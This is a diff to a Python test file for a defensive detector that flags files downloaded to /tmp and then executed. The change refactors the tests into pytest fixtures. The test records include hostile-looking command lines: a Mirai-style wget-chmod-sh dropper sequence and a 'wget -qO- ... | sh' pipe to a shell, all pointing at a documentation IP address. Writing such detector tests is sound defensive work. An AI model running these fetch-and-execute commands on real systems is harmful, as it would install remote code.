@@ -4,7 +4,7 @@ run what they fetched; compiles, pagers and package upgrades do not raise it."""
 from __future__ import annotations
 
 import itertools
-from typing import Any
+from typing import Any, Callable
 
 import pytest
 
@@ -13,11 +13,6 @@ from defender_agent.agent import Agent
 from defender_agent.clock import ManualClock
 from defender_agent.detectors import download_then_run
 from defender_agent.detectors.download_then_run import (
-    DEFAULT_FETCHERS,
-    DEFAULT_INTERPRETERS,
-    DEFAULT_PACKAGE_MANAGERS,
-    DEFAULT_PACKAGE_SCRIPTS,
-    DEFAULT_WATCHED,
     MAX_MANAGED,
     DownloadThenRunDetector,
     adds_execute,
@@ -28,27 +23,23 @@ from defender_agent.model import Record, rfc3339
 T0 = 1_795_000_000.0
 URL = "http://203.0.113.5/bins.sh"
 
-SECTION: dict[str, Any] = {
-    "enabled": None,
-    "fetchers": list(DEFAULT_FETCHERS),
-    "watched_dirs": list(DEFAULT_WATCHED),
-    "interpreters": list(DEFAULT_INTERPRETERS),
-    "package_managers": list(DEFAULT_PACKAGE_MANAGERS),
-    "package_scripts": list(DEFAULT_PACKAGE_SCRIPTS),
-    "window": 300.0,
-    "pipe_to_shell": True,
-    "max_fetches": 256,
-    "quiet": 3600.0,
-    "update_every": 300.0,
-    "max_incidents": 256,
-}
-
 _pids = itertools.count(5000)
 
 
-def detector(**settings: Any) -> DownloadThenRunDetector:
-    agent = Agent("t", ManualClock(T0 + 600))
-    return DownloadThenRunDetector(agent.context("detectors", "download_then_run"), **settings)
+@pytest.fixture
+def detector(
+    detector_section: Callable[..., dict[str, Any]],
+) -> Callable[..., DownloadThenRunDetector]:
+    """A download-then-run detector from the schema's defaults with `settings` over them."""
+
+    def make(**settings: Any) -> DownloadThenRunDetector:
+        agent = Agent("t", ManualClock(T0 + 600))
+        section = detector_section("download_then_run", **settings)
+        return download_then_run.create(
+            agent.context("detectors", "download_then_run"), section, {}
+        )
+
+    return make
 
 
 def run(
@@ -92,7 +83,9 @@ def feed(det: DownloadThenRunDetector, *records: Record) -> list[dict[str, Any]]
 # --- droppers ---------------------------------------------------------------------------
 
 
-def test_the_mirai_style_dropper_raises_one_alert_updated_as_it_runs() -> None:
+def test_the_mirai_style_dropper_raises_one_alert_updated_as_it_runs(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     """cd /tmp; wget http://H/bins.sh; chmod 777 bins.sh; sh bins.sh (busybox applets)."""
     det = detector(update_every=60.0)
     assert feed(det, run(0, "/bin/busybox", f"wget {URL}")) == []
@@ -180,7 +173,13 @@ def test_the_mirai_style_dropper_raises_one_alert_updated_as_it_runs() -> None:
         ),
     ],
 )
-def test_fetch_forms(fetch: str, cwd: str, then: tuple[str, str], how: str) -> None:
+def test_fetch_forms(
+    fetch: str,
+    cwd: str,
+    then: tuple[str, str],
+    how: str,
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     exe = (
         "/bin/busybox" if fetch.startswith(("busybox", "tftp")) else f"/usr/bin/{fetch.split()[0]}"
     )
@@ -188,10 +187,14 @@ def test_fetch_forms(fetch: str, cwd: str, then: tuple[str, str], how: str) -> N
     assert feed(det, run(0, exe, fetch, cwd=cwd)) == []
     alerts = feed(det, run(3, then[0], then[1], cwd=cwd))
     assert [a["how"] for a in alerts] == [how], fetch
-    assert alerts[0]["url"] and alerts[0]["fetched_path"].startswith(DEFAULT_WATCHED)
+    assert alerts[0]["url"] and alerts[0]["fetched_path"].startswith(
+        ("/tmp", "/dev/shm", "/var/tmp")
+    )
 
 
-def test_an_uncertain_name_matches_by_directory_and_uid() -> None:
+def test_an_uncertain_name_matches_by_directory_and_uid(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     """wget saves bins.sh as bins.sh.1 when bins.sh exists; only the same uid counts."""
     det = detector()
     feed(det, run(0, "/usr/bin/wget", f"wget {URL}", uid=1000))
@@ -202,7 +205,9 @@ def test_an_uncertain_name_matches_by_directory_and_uid() -> None:
     assert "a file into /tmp" in alert["description"]
 
 
-def test_a_certain_name_does_not_match_other_files_in_the_directory() -> None:
+def test_a_certain_name_does_not_match_other_files_in_the_directory(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     """A source file downloaded to /tmp, then compiled and run: a.out is not what came."""
     det = detector()
     feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/x.c http://203.0.113.5/x.c"))
@@ -210,7 +215,7 @@ def test_a_certain_name_does_not_match_other_files_in_the_directory() -> None:
     assert feed(det, run(5, "/tmp/a.out", "./a.out")) == []
 
 
-def test_the_window_edges_on_event_time() -> None:
+def test_the_window_edges_on_event_time(detector: Callable[..., DownloadThenRunDetector]) -> None:
     det = detector(window=300.0)
     feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/a http://203.0.113.5/a"))
     feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/b http://203.0.113.5/b"))
@@ -221,7 +226,7 @@ def test_the_window_edges_on_event_time() -> None:
     assert len(feed(det, run(999.5, "/tmp/c", "/tmp/c"))) == 1
 
 
-def test_a_fetch_piped_into_a_shell() -> None:
+def test_a_fetch_piped_into_a_shell(detector: Callable[..., DownloadThenRunDetector]) -> None:
     det = detector()
     pipeline = "sh -c wget -qO- http://203.0.113.5/i.sh | sh"
     (outer,) = feed(det, run(0, "/bin/busybox", pipeline, parent_cmdline="/usr/sbin/httpd"))
@@ -253,15 +258,20 @@ def test_a_fetch_piped_into_a_shell() -> None:
         ("sh -c curl -s https://example.org/x | grep sh", None),
     ],
 )
-def test_piped_fetch(line: str, fetcher: str | None) -> None:
-    fetchers = download_then_run.parse_fetchers(list(DEFAULT_FETCHERS))
-    assert piped_fetch(line, fetchers, DEFAULT_INTERPRETERS) == fetcher
+def test_piped_fetch(
+    line: str, fetcher: str | None, detector_section: Callable[..., dict[str, Any]]
+) -> None:
+    section = detector_section("download_then_run")
+    fetchers = download_then_run.parse_fetchers(section["fetchers"])
+    assert piped_fetch(line, fetchers, tuple(section["interpreters"])) == fetcher
 
 
 # --- near misses ------------------------------------------------------------------------------
 
 
-def test_near_miss_a_compile_in_tmp_without_any_fetch() -> None:
+def test_near_miss_a_compile_in_tmp_without_any_fetch(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     det = detector()
     events = [
         run(0, "/usr/bin/gcc", "gcc -O2 -o a.out hello.c"),
@@ -272,7 +282,9 @@ def test_near_miss_a_compile_in_tmp_without_any_fetch() -> None:
     assert feed(det, *events) == []
 
 
-def test_near_miss_curl_to_stdout_piped_to_a_pager() -> None:
+def test_near_miss_curl_to_stdout_piped_to_a_pager(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     det = detector()
     parent = "sh -c curl -s https://example.org/notes.txt | less"
     events = [
@@ -284,7 +296,9 @@ def test_near_miss_curl_to_stdout_piped_to_a_pager() -> None:
     assert feed(det, *events) == []
 
 
-def test_near_miss_a_package_upgrade_unpacking_and_running_files_in_tmp() -> None:
+def test_near_miss_a_package_upgrade_unpacking_and_running_files_in_tmp(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     """apt -> dpkg -> postinst -> wget into /tmp -> run it: every level is the upgrade's,
     the deeper ones known only because the detector saw them descend from dpkg."""
     det = detector()
@@ -358,7 +372,9 @@ def test_near_miss_a_package_upgrade_unpacking_and_running_files_in_tmp() -> Non
     assert det.statistics()["fetches"] == 0
 
 
-def test_near_miss_a_fetch_outside_the_watched_directories() -> None:
+def test_near_miss_a_fetch_outside_the_watched_directories(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     det = detector()
     feed(det, run(0, "/usr/bin/curl", "curl -o /home/admin/x.sh http://203.0.113.5/x", cwd="/"))
     feed(det, run(0, "/usr/bin/wget", "wget http://203.0.113.5/y", cwd="/home/admin"))
@@ -367,7 +383,9 @@ def test_near_miss_a_fetch_outside_the_watched_directories() -> None:
     assert det.statistics()["fetches"] == 2 and det.statistics()["fetches-watched"] == 0
 
 
-def test_near_miss_chmod_without_an_execute_bit_and_reading_the_file() -> None:
+def test_near_miss_chmod_without_an_execute_bit_and_reading_the_file(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     det = detector()
     feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/conf http://203.0.113.5/conf"))
     events = [
@@ -384,13 +402,17 @@ def test_near_miss_chmod_without_an_execute_bit_and_reading_the_file() -> None:
     "cmdline",
     ["sh -c s.sh", "perl -e s.sh", "python3 -m s.sh", "bash -s s.sh", "sh - s.sh", "sh -- s.sh"],
 )
-def test_near_miss_an_interpreter_running_an_inline_command_or_stdin(cmdline: str) -> None:
+def test_near_miss_an_interpreter_running_an_inline_command_or_stdin(
+    cmdline: str, detector: Callable[..., DownloadThenRunDetector]
+) -> None:
     det = detector()
     feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/s.sh http://203.0.113.5/s.sh"))
     assert feed(det, run(1, "/usr/bin/" + cmdline.split()[0], cmdline)) == []
 
 
-def test_a_relative_path_with_an_unknown_directory_is_counted() -> None:
+def test_a_relative_path_with_an_unknown_directory_is_counted(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     det = detector()
     feed(det, run(0, "/usr/bin/wget", "wget http://203.0.113.5/bins.sh", cwd=None))
     assert det.statistics()["fetch-unresolved"] == 1
@@ -424,7 +446,7 @@ def test_adds_execute(mode: str, executable: bool) -> None:
 # --- hostile input --------------------------------------------------------------------------
 
 
-def test_hostile_command_lines() -> None:
+def test_hostile_command_lines(detector: Callable[..., DownloadThenRunDetector]) -> None:
     det = detector()
     huge = "curl -o /tmp/" + "x" * 1_000_000 + " http://203.0.113.5/"
     feed(det, run(0, "/usr/bin/curl", huge))
@@ -438,7 +460,9 @@ def test_hostile_command_lines() -> None:
         assert feed(det, run(2, None, value)) == []  # type: ignore[arg-type]
 
 
-def test_many_distinct_fetches_stay_bounded() -> None:
+def test_many_distinct_fetches_stay_bounded(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     det = detector(max_fetches=16)
     for n in range(100):
         feed(det, run(n * 0.01, "/usr/bin/wget", f"wget http://203.0.113.5/{n}", uid=n))
@@ -449,14 +473,16 @@ def test_many_distinct_fetches_stay_bounded() -> None:
     assert feed(det, run(2, "/tmp/0", "./0", uid=0)) == []  # the oldest was forgotten
 
 
-def test_old_fetches_leave_on_event_time() -> None:
+def test_old_fetches_leave_on_event_time(detector: Callable[..., DownloadThenRunDetector]) -> None:
     det = detector(window=60.0)
     feed(det, run(0, "/usr/bin/curl", "curl -o /tmp/a http://203.0.113.5/a"))
     feed(det, run(120, "/usr/bin/curl", "curl -o /tmp/b http://203.0.113.5/b"))
     assert det.statistics()["tracked-fetches"] == 1
 
 
-def test_package_manager_pids_stay_bounded() -> None:
+def test_package_manager_pids_stay_bounded(
+    detector: Callable[..., DownloadThenRunDetector],
+) -> None:
     det = detector()
     for n in range(MAX_MANAGED + 10):
         feed(det, run(0, "/usr/bin/dpkg", "dpkg -i x.deb", pid=100_000 + n))
@@ -467,27 +493,31 @@ def test_package_manager_pids_stay_bounded() -> None:
 # --- configuration ------------------------------------------------------------------------
 
 
-def test_create_and_describe_from_a_section() -> None:
+def test_create_and_describe_from_a_section(
+    detector_section: Callable[..., dict[str, Any]],
+) -> None:
     agent = Agent("t", ManualClock(T0))
     det = download_then_run.create(
-        agent.context("detectors", "download_then_run"), dict(SECTION), {}
+        agent.context("detectors", "download_then_run"), detector_section("download_then_run"), {}
     )
     assert det.name == "download_then_run" and det.window == 300.0
     assert det.fetchers["uclient-fetch"] == "wget"
-    lines = download_then_run.describe(dict(SECTION))
+    lines = download_then_run.describe(detector_section("download_then_run"))
     assert "/tmp, /dev/shm, /var/tmp" in lines[0] and "(on)" in lines[1]
     assert det.save_state() == {} and det.statistics()["execs"] == 0
 
 
-def test_a_bad_fetcher_is_a_configuration_error() -> None:
-    section = {**SECTION, "fetchers": ["curl=curl", "aria2c=aria"]}
+def test_a_bad_fetcher_is_a_configuration_error(
+    detector_section: Callable[..., dict[str, Any]],
+) -> None:
+    section = detector_section("download_then_run", fetchers=["curl=curl", "aria2c=aria"])
     with pytest.raises(
         config.ConfigError, match=r"detectors\.download_then_run\.fetchers: 'aria2c=aria'"
     ):
         download_then_run.describe(section)
 
 
-def test_fetchers_are_data() -> None:
+def test_fetchers_are_data(detector: Callable[..., DownloadThenRunDetector]) -> None:
     det = detector(fetchers=["fetch-tool=curl"])
     feed(det, run(0, "/opt/bin/fetch-tool", "fetch-tool -o /tmp/q http://203.0.113.5/q"))
     assert len(feed(det, run(1, "/tmp/q", "/tmp/q"))) == 1
@@ -557,7 +587,7 @@ BENIGN = [
 ]
 
 
-def test_a_benign_workload_raises_nothing() -> None:
+def test_a_benign_workload_raises_nothing(detector: Callable[..., DownloadThenRunDetector]) -> None:
     det = detector()
     records = [
         run(i * 2.0, exe, cmd, cwd=cwd, parent_executable=pexe, parent_cmdline=pcmd)
